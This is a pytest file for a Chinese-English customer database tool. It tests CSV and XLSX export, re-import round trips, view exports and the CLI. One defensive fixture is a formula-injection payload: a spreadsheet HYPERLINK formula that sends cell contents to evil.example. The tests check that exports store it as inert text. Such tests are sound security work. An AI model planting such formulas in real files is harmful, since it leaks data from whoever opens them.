"""Export to CSV (UTF-8 with BOM) and XLSX, and the round trip back through import."""
import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest

from kehu.models.exporter import ExportFailed, export, export_view
from kehu.models.importer import auto_mapping, open_source, run_import
from kehu.models.results import ResultSet

FULL = {"name": "张三", "customer_type": "company", "gender": "male", "birthday": "1980-05-17",
        "age": "44", "external_id": "C-0001", "company": "北京星辰科技有限公司", "department": "采购部",
        "title": "总经理", "mobile": "13800138000", "phone": "010-6552 9988",
        "email": "zhangsan@example.com", "address": "北京市朝阳区建国路 1 号", "city": "北京",
        "region": "华北", "industry": "it", "source": "exhibition", "acquired_on": "2023-03-05",
        "satisfaction": "9.5", "credit_rating": "AA", "scale": "medium", "grade": "A",
        "stage": "growth", "owner": "tester", "tags": "vip,老客户", "notes": "第一行\n第二行, 有逗号",
        "interests": "高尔夫,茶道", "wechat": "zhangsan_88", "marketing_opt_in": "yes",
        "social": "weibo: @zs", "headcount": "120", "registered_capital": "1500000.5",
        "website": "https://xingchen.example.com", "household": "三口之家", "income_band": "gt1m",
        "education": "master"}


def values_of(store, row):
    return {k: getattr(row, k) for k in store.schema.keys if not store.schema[k].computed}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_then_import_keeps_every_value(store, tmp_path, suffix):
    full = {k: v for k, v in FULL.items() if k in store.schema}
    first = store.create_customer(full)
    second = store.create_customer({"name": "Ada Lovelace", "marketing_opt_in": "no"})
    path = tmp_path / f"out{suffix}"
    result = export(store, path)
    assert result.rows == 2
    source = open_source(path)
    mapping = auto_mapping(store.schema, source)
    imported = run_import(store, source, mapping)
    assert (imported.created, imported.rejected) == (2, 0), imported.problems
    C = store.Customer
    copies = {r.name: r for r in store.customers().where(C.import_batch == imported.batch_id)}
    assert values_of(store, copies["张三"]) == values_of(store, store.get_customer(first.id))
    assert values_of(store, copies["Ada Lovelace"]) == values_of(store, store.get_customer(second.id))


def test_csv_has_a_bom_labels_and_readable_values(store, tmp_path):
    store.create_customer({"name": "张三", "mobile": "13800138000", "grade": "A",
                           "registered_capital": "1500000"})
    path = tmp_path / "out.csv"
    export(store, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0]["Name"] == "张三"
    assert rows[0]["Mobile"] == "138 0013 8000"
    assert rows[0]["Grade"] == "A key"
    assert rows[0]["Registered capital"] == "1500000.00"


def test_a_view_exports_its_rows_and_columns_in_its_order(store, tmp_path):
    for name, grade, credit in (("甲", "A", "AA"), ("乙", "B", "AAA"), ("丙", "A", "AAA")):
        store.create_customer({"name": name, "grade": grade, "credit_rating": credit,
                               "company": f"{name}公司"})
    path = tmp_path / "grades.xlsx"
    result = export_view(store, path, "Grade table", search="grade:A")
    assert result.rows == 2
    ws = openpyxl.load_workbook(path).active
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    assert rows[0] == ["Name", "Company", "Credit", "Scale", "Grade", "Purchases", "Owner"]
    assert [r[0] for r in rows[1:]] == ["丙", "甲"]  # the view's sort: credit rating first
    with pytest.raises(ExportFailed, match="no view called 'nope'"):
        export_view(store, path, "nope")


def test_a_query_export(store, tmp_path):
    for name, grade in (("甲", "A"), ("乙", "B")):
        store.create_customer({"name": name, "grade": grade})
    result = export(store, tmp_path / "q.csv", rows=ResultSet(store, "grade:B"), columns=["name"])
    assert result.rows == 1
    assert (tmp_path / "q.csv").read_text(encoding="utf-8-sig").splitlines() == ["Name", "乙"]


def test_bad_targets_get_one_sentence(store, tmp_path):
    with pytest.raises(ExportFailed, match=r"\.csv or \.xlsx"):
        export(store, tmp_path / "out.txt")
    with pytest.raises(ExportFailed, match="no such folder"):
        export(store, tmp_path / "missing" / "out.csv")


def test_dates_stay_dates_in_xlsx(store, tmp_path):
    store.create_customer({"name": "A", "acquired_on": "2023-03-05", "headcount": "12"})
    export(store, tmp_path / "d.xlsx", columns=["name", "acquired_on", "headcount"])
    ws = openpyxl.load_workbook(tmp_path / "d.xlsx").active
    row = [c.value for c in next(ws.iter_rows(min_row=2))]
    assert row == ["A", dt.datetime(2023, 3, 5), 12]


def test_kehu_export_command(store, tmp_path, capsys):
    from kehu.tui.cli import main

    store.create_customer({"name": "甲", "grade": "A"})
    store.create_customer({"name": "乙", "grade": "B"})
    url = store.url
    store.close()
    out = tmp_path / "a.csv"
    assert main(["--db", url, "export", "-o", str(out), "--query", "grade:A",
                 "--columns", "name,客户等级"]) == 0
    assert "1 customer, 2 columns" in capsys.readouterr().out
    assert out.read_text(encoding="utf-8-sig").splitlines() == ["Name,Grade", "甲,A key"]
    assert main(["--db", url, "export", "-o", str(tmp_path / "v.xlsx"), "--view", "roster"]) == 0
    assert main(["--db", url, "export", "-o", str(out), "--query", "grade:"]) == 2
    assert main(["--db", url, "export", "-o", str(tmp_path / "x.txt")]) == 2
    assert ".csv or .xlsx" in capsys.readouterr().err


EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&B2,"click")'
FORMULA_LIKE = {"name": EVIL_NAME, "notes": "=SUM(A1:A2) 是备注，不是公式", "company": "+Plus 公司",
                "department": "-2+3", "title": "@SUM(1,2)", "phone": "+1 650 253 0000",
                "social": "'=quoted already", "external_id": "-5", "address": "'just a quote"}


def formula_cells(path):
    ws = openpyxl.load_workbook(path).active  # not data_only: a formula would show as one
    return [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_text_that_looks_like_a_formula_is_written_as_text_and_comes_back(store, tmp_path, suffix):
    first = store.create_customer({k: v for k, v in FORMULA_LIKE.items() if k in store.schema})
    path = tmp_path / f"out{suffix}"
    export(store, path)
    if suffix == ".xlsx":
        assert formula_cells(path) == []
        ws = openpyxl.load_workbook(path).active
        cell = ws["A2"]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (EVIL_NAME, "s", True)
    else:  # OWASP: a leading ' keeps a spreadsheet from running the cell
        rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
        assert rows[0]["Name"] == "'" + EVIL_NAME
        assert rows[0]["Department"] == "'-2+3" and rows[0]["Title"] == "'@SUM(1,2)"
        assert rows[0]["Phone"] == "'+1 650-253-0000"
        assert rows[0]["Social accounts"] == "''=quoted already" and rows[0]["Address"] == "'just a quote"
    source = open_source(path)
    imported = run_import(store, source, auto_mapping(store.schema, source))
    assert (imported.created, imported.rejected) == (1, 0), imported.problems
    copy = store.customers().where(store.Customer.import_batch == imported.batch_id).get()
    assert values_of(store, copy) == values_of(store, store.get_customer(first.id))


SIGNED_SCHEMA = """
extends: default
fields:
  - {key: balance, label: {en: Balance, zh: 余额}, type: money, group: business}
  - {key: delta, label: {en: Delta, zh: 差值}, type: integer, group: business}
  - {key: rate, label: {en: Rate, zh: 比率}, type: decimal, decimals: 3, group: business}
"""


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_negative_numbers_stay_numbers_and_come_back(sqlite_url, tmp_path, suffix):
    from kehu.models.store import Store

    schema = tmp_path / "schema.yaml"
    schema.write_text(SIGNED_SCHEMA, encoding="utf-8")
    store = Store.open(sqlite_url, str(schema), user="tester")
    store.create_customer({"name": "负数", "balance": "-1234.5", "delta": "-7", "rate": "-0.125"})
    path = tmp_path / f"signed{suffix}"
    export(store, path, columns=["name", "balance", "delta", "rate"])
    if suffix == ".csv":  # a number is no formula: no quote, a spreadsheet keeps it a number
        assert path.read_text(encoding="utf-8-sig").splitlines()[1] == "负数,-1234.50,-7,-0.125"
    else:
        ws = openpyxl.load_workbook(path).active
        assert [c.data_type for c in ws[2]] == ["s", "n", "n", "n"]
    source = open_source(path)
    imported = run_import(store, source, auto_mapping(store.schema, source))
    assert (imported.created, imported.rejected) == (1, 0), imported.problems
    copy = store.customers().where(store.Customer.import_batch == imported.batch_id).get()
    assert (copy.balance, copy.delta, copy.rate) == (Decimal("-1234.50"), -7, Decimal("-0.125"))
    store.close()


def test_report_files_write_names_as_text(store, tmp_path):
    from kehu.models import reports

    customer = store.create_customer({"name": EVIL_NAME})
    store.add_interaction(customer.id, "purchase", amount=100)
    report = reports.run(store, "top")
    path = tmp_path / "top.xlsx"
    report.to_xlsx(path)
    assert formula_cells(path) == []
    names = [c for row in openpyxl.load_workbook(path).active.iter_rows() for c in row
             if c.value == EVIL_NAME]
    assert [(c.data_type, c.quotePrefix) for c in names] == [("s", True)]
    out = io.StringIO()
    report.to_csv(out)
    line = list(csv.reader(out.getvalue().splitlines()))[1]
    assert line[:2] == ["1", "'" + EVIL_NAME] and line[5] == "100.00"


def test_a_control_character_already_stored_does_not_stop_an_xlsx_export(sqlite_url, tmp_path):
    """SQLite databases written before validation refused them may hold one."""
    from kehu.models.store import Store

    store = Store.open(sqlite_url, user="tester")
    customer = store.create_customer({"name": "旧数据"})
    store.Customer.update(notes="a\x00b\x1bc").where(store.Customer.id == customer.id).execute()
    assert export(store, tmp_path / "old.xlsx").rows == 1
    ws = openpyxl.load_workbook(tmp_path / "old.xlsx").active
    notes = [c.value for c in ws[1]].index("Notes")
    assert ws[2][notes].value == "abc"
    store.close()


def test_a_whole_number_a_spreadsheet_would_round_is_written_as_text(store, tmp_path):
    first = store.create_customer({"name": "大数", "headcount": str(2 ** 63 - 1)})
    second = store.create_customer({"name": "小数", "headcount": "9007199254740993"})  # 2**53 + 1
    export(store, tmp_path / "big.xlsx", columns=["name", "headcount"])
    ws = openpyxl.load_workbook(tmp_path / "big.xlsx").active
    assert [ws["B2"].value, ws["B3"].value] == [str(2 ** 63 - 1), "9007199254740993"]
    source = open_source(tmp_path / "big.xlsx")
    imported = run_import(store, source, auto_mapping(store.schema, source))
    copies = store.customers().where(store.Customer.import_batch == imported.batch_id)
    assert sorted(c.headcount for c in copies) == sorted(
        [store.get_customer(first.id).headcount, store.get_customer(second.id).headcount])
